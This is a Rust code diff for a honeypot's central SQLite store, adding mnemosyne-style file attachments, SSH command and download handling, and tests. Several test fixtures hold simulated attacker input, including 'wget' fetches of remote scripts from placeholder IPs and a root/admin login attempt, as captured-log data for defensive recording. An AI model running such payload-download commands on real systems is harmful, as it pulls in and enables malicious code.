@@ -104,7 +104,8 @@ CREATE TABLE IF NOT EXISTS mnemosyneSessions (
     commands TEXT NOT NULL DEFAULT '[]',
     urls TEXT NOT NULL DEFAULT '[]',
     session_http TEXT,
-    session_ssh TEXT
+    session_ssh TEXT,
+    attachments TEXT NOT NULL DEFAULT '[]'
 );
 CREATE INDEX IF NOT EXISTS mnemosyneSessions_timestamp ON mnemosyneSessions (timestamp);
 CREATE INDEX IF NOT EXISTS mnemosyneSessions_source ON mnemosyneSessions (source_ip);
@@ -142,6 +143,15 @@ impl SqliteCentralStore {
     pub fn open(path: &Path) -> Result<SqliteCentralStore, NormalizerError> {
         let (conn, _) = store::open(path, &[])?;
         conn.execute_batch(CENTRAL_TABLES)?;
+        // Issue 18 added the written files' hashes (mnemosyne's `attachments`) to the records.
+        if !store::schema::table_columns(&conn, "mnemosyneSessions")?
+            .iter()
+            .any(|(name, _)| name.eq_ignore_ascii_case("attachments"))
+        {
+            conn.execute_batch(
+                "ALTER TABLE mnemosyneSessions ADD COLUMN attachments TEXT NOT NULL DEFAULT '[]'",
+            )?;
+        }
         conn.set_prepared_statement_cache_capacity(256);
         // A bigger page cache than SQLite's 2 MB default: the sessions indexes stay in memory.
         conn.execute_batch("PRAGMA cache_size = -8192")?;
@@ -314,6 +324,14 @@ impl SqliteCentralStore {
                 self.sink.fingerprint(&self.conn, event, &peer, &local)?
             }
             kind if kind.is_scan() => self.sink.scan(&self.conn, event, &peer, &local)?,
+            EventType::FileWritten => {
+                self.sink.file_written(&self.conn, event, &peer, &local)?;
+                self.mnemosyne_event(event)?;
+            }
+            EventType::DownloadAttempt => {
+                self.sink.download(&self.conn, event, &peer, &local)?;
+                self.mnemosyne_event(event)?;
+            }
             _ => {
                 let table = match table {
                     Some(t) => t,
@@ -337,13 +355,46 @@ impl SqliteCentralStore {
             self.mnemosyne_append(&event.session, MnemosyneList::AuthAttempts, &attempt)?;
         }
         match event.kind {
-            EventType::TelnetCommand => {
+            EventType::TelnetCommand | EventType::SshCommand => {
                 if let Some(command) = text("user_input") {
                     self.mnemosyne_append(
                         &event.session,
                         MnemosyneList::Commands,
                         &json!(command),
                     )?;
+                }
+            }
+            EventType::SshClient => {
+                // mnemosyne's `session_ssh`: the client's version string, once per session.
+                if let Some(version) = text("version") {
+                    self.conn
+                        .prepare_cached(
+                            "UPDATE mnemosyneSessions SET session_ssh = ?2
+                             WHERE session = ?1 AND session_ssh IS NULL",
+                        )?
+                        .execute(params![
+                            event.session,
+                            json!({"version": version}).to_string()
+                        ])?;
+                }
+            }
+            EventType::DownloadAttempt => {
+                if let Some(url) = text("url") {
+                    self.mnemosyne_append(&event.session, MnemosyneList::Urls, &json!(url))?;
+                }
+            }
+            EventType::FileWritten => {
+                // mnemosyne's attachment shape (its Dionaea capture normalizer's), with the
+                // SHA-256 recce7 computes, and where the file was written.
+                if let Some(sha256) = text("sha256") {
+                    let via = text("via").unwrap_or("shell");
+                    let attachment = json!({
+                        "description": format!("File written ({via})"),
+                        "path": text("path"),
+                        "size": event.data.get("size"),
+                        "hashes": {"sha256": sha256.to_ascii_lowercase()},
+                    });
+                    self.mnemosyne_append(&event.session, MnemosyneList::Attachments, &attachment)?;
                 }
             }
             EventType::ServiceInput => {
@@ -475,10 +526,19 @@ impl SqliteCentralStore {
             self.insert_row("cowrie", &fixed(event_type), &data)?;
         }
         let commands: Vec<&String> = c.commands.iter().chain(&c.unknown_commands).collect();
+        // Cowrie's `hashes` (SHA-256 of files downloaded or uploaded) as mnemosyne attachments,
+        // the shape recce7's own written files take.
+        let attachments: Vec<Value> = c
+            .hashes
+            .iter()
+            .map(|h| {
+                json!({"description": "File (cowrie)", "hashes": {"sha256": h.to_ascii_lowercase()}})
+            })
+            .collect();
         self.conn
             .prepare_cached(
                 "UPDATE mnemosyneSessions SET auth_attempts = ?2, commands = ?3, urls = ?4,
-                 session_ssh = ?5, end_time = ?6 WHERE session = ?1",
+                 session_ssh = ?5, end_time = ?6, attachments = ?7 WHERE session = ?1",
             )?
             .execute(params![
                 c.id,
@@ -489,6 +549,7 @@ impl SqliteCentralStore {
                     .as_ref()
                     .map(|v| json!({"version": v}).to_string()),
                 c.end_time,
+                Value::from(attachments).to_string(),
             ])?;
         Ok(())
     }
@@ -547,6 +608,7 @@ enum MnemosyneList {
     AuthAttempts,
     Commands,
     Urls,
+    Attachments,
 }
 
 impl MnemosyneList {
@@ -560,6 +622,9 @@ impl MnemosyneList {
             }
             MnemosyneList::Urls => {
                 "UPDATE mnemosyneSessions SET urls = json_insert(urls, '$[#]', json(?2)) WHERE session = ?1"
+            }
+            MnemosyneList::Attachments => {
+                "UPDATE mnemosyneSessions SET attachments = json_insert(attachments, '$[#]', json(?2)) WHERE session = ?1"
             }
         }
     }
@@ -864,5 +929,153 @@ mod tests {
             .unwrap();
         let start = event(E1, "session.start", json!({"table": "http"}));
         assert!(store.write(&[item("recce7.events", "s", &start)]).is_err());
+    }
+
+    fn ssh_event(id: &str, kind: &str, data: Value) -> String {
+        event(id, kind, data)
+            .replace(r#""plugin":"web""#, r#""plugin":"ssh""#)
+            .replace(r#""protocol":"http""#, r#""protocol":"ssh""#)
+    }
+
+    #[test]
+    fn an_ssh_session_makes_a_mnemosyne_record_with_its_version_logins_commands_urls_and_files() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut store = SqliteCentralStore::open(&dir.path().join("c.sqlite")).unwrap();
+        let id = |n: u8| format!("01a20a83-aa19-7048-b6f8-da76f3b8d5{n:02}");
+        let events = [
+            ssh_event(&id(1), "session.start", json!({"table": "ssh"})),
+            ssh_event(
+                &id(2),
+                "ssh.client",
+                json!({"version": "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6",
+                    "hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1",
+                    "hassh_algorithms": "curve25519-sha256;aes128-ctr;hmac-sha2-256;none"}),
+            ),
+            ssh_event(
+                &id(3),
+                "ssh.login",
+                json!({"method": "password", "username": "root", "password": "admin",
+                    "key_type": null, "key_fingerprint": null, "outcome": "refused"}),
+            ),
+            ssh_event(
+                &id(4),
+                "ssh.login",
+                json!({"method": "publickey", "username": "root", "password": null,
+                    "key_type": "ssh-ed25519", "key_fingerprint": "SHA256:abc", "outcome": "refused"}),
+            ),
+            ssh_event(
+                &id(5),
+                "ssh.command",
+                json!({"input_type": "exec", "user_input": "uname -a"}),
+            ),
+            ssh_event(
+                &id(6),
+                "download.attempt",
+                json!({"url": "http://203.0.113.9/x.sh", "command": "wget"}),
+            ),
+            ssh_event(
+                &id(7),
+                "file.written",
+                json!({"path": "/tmp/x", "size": 3, "sha256": "AB12", "data": "AAEC",
+                    "truncated": false, "via": "scp"}),
+            ),
+        ];
+        let items: Vec<Item> = events
+            .iter()
+            .map(|e| item("recce7.events", "sensor-1", e))
+            .collect();
+        let outcome = store.write(&items).unwrap();
+        assert_eq!(outcome.written, 7, "{outcome:?}");
+        let c = store.connection();
+        assert_eq!(
+            one(
+                c,
+                "SELECT protocol || ' ' || honeypot FROM mnemosyneSessions"
+            ),
+            "ssh recce7"
+        );
+        assert_eq!(
+            one(c, "SELECT session_ssh FROM mnemosyneSessions"),
+            r#"{"version":"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6"}"#
+        );
+        assert_eq!(
+            one(c, "SELECT auth_attempts FROM mnemosyneSessions"),
+            r#"[{"login":"root","password":"admin"},{"login":"root","password":null}]"#
+        );
+        assert_eq!(
+            one(c, "SELECT commands || urls FROM mnemosyneSessions"),
+            r#"["uname -a"]["http://203.0.113.9/x.sh"]"#
+        );
+        let attachments: Value =
+            serde_json::from_str(&one(c, "SELECT attachments FROM mnemosyneSessions")).unwrap();
+        assert_eq!(
+            attachments,
+            json!([{"description": "File written (scp)", "path": "/tmp/x", "size": 3,
+                "hashes": {"sha256": "ab12"}}])
+        );
+        assert_eq!(
+            one(
+                c,
+                "SELECT path || ' ' || size || ' ' || sha256 || ' ' || hex(data) || ' ' || via FROM files"
+            ),
+            "/tmp/x 3 ab12 000102 scp"
+        );
+        assert_eq!(
+            one(c, "SELECT url || ' ' || command FROM downloads"),
+            "http://203.0.113.9/x.sh wget"
+        );
+        assert_eq!(one(c, "SELECT protocol FROM sessions"), "ssh");
+        // The SSH events themselves are rows of the instance's table, as telnet's are.
+        assert_eq!(one(c, "SELECT count(*) FROM ssh"), "4");
+        assert_eq!(
+            one(
+                c,
+                "SELECT group_concat(outcome) FROM ssh WHERE eventType = 'ssh.login'"
+            ),
+            "refused,refused"
+        );
+    }
+
+    #[test]
+    fn an_older_central_store_gains_mnemosyne_attachments() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("c.sqlite");
+        {
+            let store = SqliteCentralStore::open(&path).unwrap();
+            store
+                .connection()
+                .execute_batch("ALTER TABLE mnemosyneSessions DROP COLUMN attachments")
+                .unwrap();
+        }
+        let store = SqliteCentralStore::open(&path).unwrap();
+        let cols = store::schema::table_columns(store.connection(), "mnemosyneSessions").unwrap();
+        assert!(cols.iter().any(|(n, _)| n == "attachments"));
+    }
+
+    #[test]
+    fn cowrie_hashes_become_mnemosyne_attachments() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut store = SqliteCentralStore::open(&dir.path().join("c.sqlite")).unwrap();
+        let payload = r#"{"session": "a3f1c2d4e5b6", "startTime": "2026-11-23T22:25:30.649422Z",
+            "endTime": "2026-11-23T22:26:02.101010Z", "peerIP": "203.0.113.7", "peerPort": 51234,
+            "hostIP": "10.0.0.5", "hostPort": 2223, "loggedin": ["root", "xc3511"],
+            "credentials": [], "commands": ["wget http://198.51.100.9/m"], "unknownCommands": [],
+            "urls": ["http://198.51.100.9/m"], "version": null, "ttylog": null,
+            "hashes": ["2C26B46B68FFC68FF99B453C1D30413413422D706483BFA0F98A5E886266E7AE"],
+            "protocol": "telnet"}"#;
+        let outcome = store
+            .write(&[item("cowrie.sessions", "cowrie-1", payload)])
+            .unwrap();
+        assert_eq!(outcome.written, 1, "{outcome:?}");
+        let attachments: Value = serde_json::from_str(&one(
+            store.connection(),
+            "SELECT attachments FROM mnemosyneSessions",
+        ))
+        .unwrap();
+        assert_eq!(
+            attachments,
+            json!([{"description": "File (cowrie)", "hashes":
+                {"sha256": "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"}}])
+        );
     }
 }
